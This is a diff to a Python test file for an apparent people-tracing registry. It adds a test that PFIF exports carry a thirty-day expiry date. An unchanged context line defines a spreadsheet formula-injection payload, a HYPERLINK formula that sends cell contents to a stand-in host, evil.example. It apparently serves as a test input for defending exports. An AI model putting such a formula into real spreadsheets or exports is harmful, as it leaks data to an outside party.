@@ -20,8 +20,9 @@ import pytest
 from fieldreg.core.errors import FieldregError, StoreError, ValidationError
 from fieldreg.crypto import durable_file
 from fieldreg.reports import pfif
-from fieldreg.services import exports
+from fieldreg.services import exports, retention
 from fieldreg.services.session import Session
+from fieldreg.services.sync_access import sync_repository
 from tests.reports.people import register_people
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -259,3 +260,17 @@ def test_a_pfif_list_over_the_size_limit_is_refused_unparsed(tmp_path: Path) -> 
     with pytest.raises(FieldregError) as caught:
         exports.read_pfif_list(huge)
     assert caught.value.code == "pfif.too_large"
+
+
+def test_pfif_records_expire_after_the_networks_retention_period(session: Session) -> None:
+    session.register({"family_name": "Коваль", "given_name": "Ірина", "consent_tracing": "yes"})
+    with sync_repository(session) as repo, repo.transaction():
+        retention.store_days(repo, 30)  # as a roster brings the network's setting
+
+    [person] = pfif.parse_document(
+        build(session, exports.ExportFormat.PFIF, domain="registry.example.org").content
+    )
+
+    assert person.expiry_date is not None
+    assert person.entry_date is not None
+    assert person.expiry_date - person.entry_date == dt.timedelta(days=30)
